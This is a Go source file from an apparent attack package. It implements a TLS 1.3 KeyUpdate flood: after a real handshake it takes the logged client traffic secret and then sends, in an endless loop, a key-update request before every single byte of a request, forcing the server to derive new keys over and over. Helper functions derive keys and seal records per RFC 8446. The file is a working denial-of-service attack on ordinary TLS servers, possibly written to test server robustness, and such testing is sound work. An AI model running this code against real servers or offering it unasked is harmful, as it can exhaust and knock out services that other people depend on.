package attack

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"hash"
	"strings"
)

// keyUpdates makes a handshake, and then has the server derive new keys all the time:
// before each byte of a request it says that its keys have changed, and that it wants
// the server's to. No implementation of TLS offers that, so the records are made here,
// from the secret that crypto/tls logs. A server that counts messages without use
// sees that there is a byte of use after each.
func keyUpdates(_ context.Context, a *attacker) error {
	var log bytes.Buffer
	config := a.force.target.forTLS.Clone()
	config.KeyLogWriter = &log
	if err := a.secure(config); err != nil {
		return err
	}
	s, err := newSealer(a.Conn.(*tls.Conn).ConnectionState().CipherSuite, log.String())
	if err != nil {
		return err
	}
	a.Conn = a.raw // what crypto/tls would write now, the server could no longer open
	_, stop := a.readAlong(a.raw)
	defer stop()
	for {
		var records []byte
		for _, b := range a.force.target.protocol.request {
			records = append(records, s.updateKey()...)
			records = append(records, s.seal(recordData, []byte{b})...)
		}
		if err := a.send(records); err != nil {
			return err
		}
	}
}

// A sealer makes TLS 1.3 records of one direction.
type sealer struct {
	hash   func() hash.Hash
	length int // of a key
	secret []byte

	sealing cipher.AEAD
	iv      []byte
	number  uint64 // of the next record under this key
}

var errNoSecret = errors.New("crypto/tls has logged no traffic secret: not TLS 1.3")

// isSealable leaves out ChaCha20, which the standard library keeps to itself, and Go's
// servers and clients to machines without AES.
func isSealable(suite uint16) bool {
	return suite == tls.TLS_AES_128_GCM_SHA256 || suite == tls.TLS_AES_256_GCM_SHA384
}

// newSealer goes on where a client's handshake has ended, of which crypto/tls has
// logged the secrets.
func newSealer(suite uint16, log string) (*sealer, error) {
	if !isSealable(suite) {
		return nil, fmt.Errorf("%s is not spoken here", tls.CipherSuiteName(suite))
	}
	s := &sealer{hash: sha256.New, length: 16}
	if suite == tls.TLS_AES_256_GCM_SHA384 {
		s.hash, s.length = sha512.New384, 32
	}
	for line := range strings.Lines(log) {
		if fields := strings.Fields(line); len(fields) == 3 && fields[0] == "CLIENT_TRAFFIC_SECRET_0" {
			secret, err := hex.DecodeString(fields[2])
			if err != nil {
				return nil, err
			}
			return s, s.use(secret)
		}
	}
	return nil, errNoSecret
}

func aesGCM(key []byte) (cipher.AEAD, error) {
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	return cipher.NewGCM(block)
}

// use derives the keys of a secret (RFC 8446, section 7.3).
func (s *sealer) use(secret []byte) error {
	key, err := s.expand(secret, "key", s.length)
	if err != nil {
		return err
	}
	s.secret, s.number = secret, 0
	if s.iv, err = s.expand(secret, "iv", 12); err != nil {
		return err
	}
	s.sealing, err = aesGCM(key)
	return err
}

// expand is HKDF-Expand-Label without a context (RFC 8446, section 7.1).
func (s *sealer) expand(secret []byte, label string, length int) ([]byte, error) {
	label = "tls13 " + label
	info := binary.BigEndian.AppendUint16(nil, uint16(length))
	info = append(info, byte(len(label)))
	info = append(append(info, label...), 0)
	return hkdf.Expand(s.hash, secret, string(info), length)
}

// seal makes a record (section 5.2), of content that is short.
func (s *sealer) seal(kind byte, content []byte) []byte {
	nonce := bytes.Clone(s.iv)
	number := nonce[len(nonce)-8:]
	binary.BigEndian.PutUint64(number, binary.BigEndian.Uint64(number)^s.number)
	s.number++
	header := record(recordData, make([]byte, len(content)+1+s.sealing.Overhead()))[:recordHeader]
	return s.sealing.Seal(bytes.Clone(header), nonce, append(bytes.Clone(content), kind), header)
}

// updateKey makes the record that says so (section 4.6.3), and does it.
func (s *sealer) updateKey() []byte {
	const keyUpdate, updateRequested = 24, 1
	sealed := s.seal(recordHandshake, []byte{keyUpdate, 0, 0, 1, updateRequested})
	next, err := s.expand(s.secret, "traffic upd", s.hash().Size())
	if err == nil {
		err = s.use(next)
	}
	if err != nil { // only for lengths that are none
		panic(err)
	}
	return sealed
}
